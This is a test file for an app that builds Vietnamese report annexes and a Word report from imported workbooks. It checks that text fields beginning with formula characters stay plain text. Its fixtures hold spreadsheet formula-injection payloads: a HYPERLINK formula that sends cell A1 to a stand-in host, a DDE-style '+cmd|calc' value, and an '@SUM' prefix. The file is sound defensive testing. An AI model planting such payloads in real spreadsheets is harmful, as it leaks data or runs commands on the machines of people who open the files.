// Texts typed by units that look like formulas reach the annexes and the report as plain text.
import JSZip from 'jszip';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { generateAll } from '../../electron/services/generate.ts';
import { importFiles } from '../../electron/services/imports.ts';
import { sample, sampleDb, tempDir } from '../helpers/fixtures.ts';
import { filledWorkbookFile } from '../helpers/workbooks.ts';

let dir: string;
let cleanup: () => void;
beforeAll(() => ({ dir, cleanup } = tempDir()));
afterAll(() => cleanup());

const PAYLOAD = '=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")';

describe('formula injection', () => {
  it('a document summary and a narrative that start with "=" stay text in Phụ lục 02 and in the report', async () => {
    const ctx = sampleDb();
    const syt = sample.submissions.find((s) => s.unit === 'SYT' && s.year === 2026)!;
    const docs = [
      ...(syt.documents ?? []),
      { cap: 'Sở, ngành, đoàn thể', loai: 'Công văn', so_ky_hieu: '99/SYT-BVTE', ngay: '2026-06-01', co_quan: '+cmd|calc', trich_yeu: PAYLOAD },
    ];
    const file = await filledWorkbookFile(ctx, dir, 'SYT', 2026, {
      values: syt.values,
      documents: docs,
      texts: { ...syt.texts, t_a2: `@SUM(1+1) ${PAYLOAD}` },
    });
    expect((await importFiles(ctx, [file]))[0]!.status).toBe('accepted');
    const out = path.join(dir, 'out');
    await generateAll(ctx, { year: 2026, outDir: out, force: true });

    const zip = await JSZip.loadAsync(readFileSync(path.join(out, 'Phu luc 02.xlsx')));
    const shared = await zip.file('xl/sharedStrings.xml')?.async('string');
    const sheet = await zip.file('xl/worksheets/sheet1.xml')!.async('string');
    const everything = `${shared ?? ''}${sheet}`;
    expect(everything).toContain('=HYPERLINK(&quot;http://x.example/?&quot;&amp;A1,&quot;Bấm vào đây&quot;)');
    expect(sheet).not.toMatch(/<f>[^<]*HYPERLINK/);
    expect(everything).toContain('+cmd|calc');

    const doc = await (await JSZip.loadAsync(readFileSync(path.join(out, 'Bao cao.docx')))).file('word/document.xml')!.async('string');
    expect(doc).toContain('@SUM(1+1) =HYPERLINK(&quot;http://x.example/?&quot;&amp;A1,&quot;Bấm vào đây&quot;)');
    expect(doc).not.toMatch(/<w:fldSimple[^>]*HYPERLINK|<w:instrText[^>]*>[^<]*HYPERLINK/);
  });
});
